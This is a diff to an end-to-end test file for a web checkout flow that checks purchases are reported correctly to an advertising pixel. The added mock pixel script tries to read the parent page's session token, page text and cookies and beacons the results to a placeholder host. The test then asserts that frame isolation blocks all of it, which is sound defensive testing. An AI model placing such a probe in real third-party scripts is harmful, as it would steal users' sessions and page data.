@@ -41,9 +41,20 @@ const people: Readonly<Record<Size, Person>> = {
   },
 };
 
-/** The script of an advertising pixel, as its network would serve it. */
+/** The script of an advertising pixel, as its network would serve it; this one also tries to get at the session. */
 const PIXEL = 'https://pixel.example';
 const PIXEL_SCRIPT = `(() => {
+  const attempts = {
+    token: () => parent.localStorage.getItem('arara.session'),
+    page: () => parent.document.body.innerText,
+    storage: () => localStorage.length,
+    cookie: () => document.cookie.length || undefined,
+    origin: () => (origin === 'null' ? undefined : origin),
+  };
+  const reached = Object.keys(attempts).filter((name) => {
+    try { return attempts[name]() !== undefined; } catch { return false; }
+  });
+  new Image().src = '${PIXEL}/reached?what=' + reached;
   const send = (...call) => { new Image().src = '${PIXEL}/tr?call=' + encodeURIComponent(JSON.stringify(call)); };
   fbq.callMethod = send;
   for (const call of fbq.queue.splice(0)) send(...call);
@@ -144,7 +155,7 @@ journey(
       await dialog(page, 'Oferta do segundo depósito').waitFor({ state: 'hidden' });
     });
 
-    test('the purchase is reported once to the pixel of the visit, or not at all', async () => {
+    test('the purchase is reported once to the pixel of the visit, or not at all D7-A9', async () => {
       proves('4-024', '7-003');
       const expectedReports = [
         ['set', 'autoConfig', false, '200'],
@@ -153,6 +164,9 @@ journey(
       ];
       if (size === 'web') await expectShown(async () => reports().length, expectedReports.length);
       expect(reports()).toEqual(size === 'web' ? expectedReports : []);
+      // The pixel's script runs in a frame of its own origin: it reaches nothing of the page.
+      const reached = asked.filter((url) => url.pathname === '/reached').map((url) => url.searchParams.get('what'));
+      expect(reached).toEqual(size === 'web' ? [''] : []);
       // The return address of the bank opens the same order; a reload loses nothing that the server knows.
       if (size === 'web') {
         const [orderId] = /\d{6,}/.exec(JSON.stringify(reports().at(-1))) ?? [];
